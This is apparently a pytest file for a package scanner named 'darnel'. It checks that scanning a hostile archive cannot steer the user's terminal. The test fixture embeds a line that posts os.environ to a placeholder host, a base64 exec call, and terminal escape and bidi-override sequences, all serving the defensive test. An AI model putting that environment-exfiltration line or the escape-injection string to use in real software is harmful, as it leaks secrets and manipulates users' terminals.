"""What a hostile package can do to the terminal of whoever scans it: nothing."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tarfile
from io import BytesIO
from pathlib import Path

import pytest
from rich.cells import cell_len

pty = pytest.importorskip("pty", reason="no pseudo-terminals on this system")

SGR = re.compile(r"\x1b\[[\d;]*m")
COLOUR = re.compile(r"\x1b\[(?:[\d;]*;)?(?:3[0-7]|9[0-7]|38|48|4[0-7])[;m]")
STEERING = "\x1b]0;title\x07\x1b[2J\x9b31m\u202e\u2066\u200b\r\b"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An inert archive whose file names and code try to steer a terminal."""
    code = f"# inert {STEERING}\nimport os, base64, urllib.request\n"
    code += f"exec(base64.b64decode('cGFzcw=='))  # {STEERING} \u6f22\u5b57\u6f22\n"
    code += f"urllib.request.urlopen('http://a.example.invalid/{STEERING!r}', data=str(os.environ))\n"
    path = tmp_path_factory.mktemp("p") / "hostile-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for name in ("hostile-1.0/setup.py", f"hostile-1.0/{STEERING}\u6f22\u5b57.py", "hostile-1.0/PKG-INFO"):
            text = f"Name: hostile{STEERING}\nVersion: 1{STEERING}\n" if "PKG" in name else code
            info = tarfile.TarInfo(name)
            info.size = len(text.encode())
            archive.addfile(info, BytesIO(text.encode()))
    return path


def on_a_terminal(model: Path, package: Path, **environment: str) -> str:
    """What the command writes to a terminal of 80 columns."""
    leader, follower = pty.openpty()
    command = [sys.executable, "-m", "darnel", "scan", "--verbose", "--model", str(model), str(package)]
    plain = {key: value for key, value in os.environ.items() if key not in {"NO_COLOR", "FORCE_COLOR"}}
    process = subprocess.Popen(
        command,
        stdout=follower,
        stderr=subprocess.DEVNULL,
        env={**plain, "COLUMNS": "80", "TERM": "xterm-256color", "PYTHONUTF8": "1", **environment},
    )
    os.close(follower)
    written = b""
    try:
        while block := os.read(leader, 65536):
            written += block
    except OSError:  # Linux: the other end was closed
        pass
    os.close(leader)
    assert process.wait(60) == 1
    return written.decode("utf-8").replace("\r\n", "\n")


def test_no_steering_and_no_line_too_long(tiny_model: Path, hostile: Path) -> None:
    written = on_a_terminal(tiny_model, hostile)
    assert COLOUR.search(written)
    plain = SGR.sub("", written)
    assert "exec(base64.b64decode" in plain
    assert "\\x1b" in plain
    for line in plain.split("\n"):
        assert line.isprintable(), line
        assert cell_len(line) <= 80, line


def test_no_color(tiny_model: Path, hostile: Path) -> None:
    assert not COLOUR.search(on_a_terminal(tiny_model, hostile, NO_COLOR="1"))
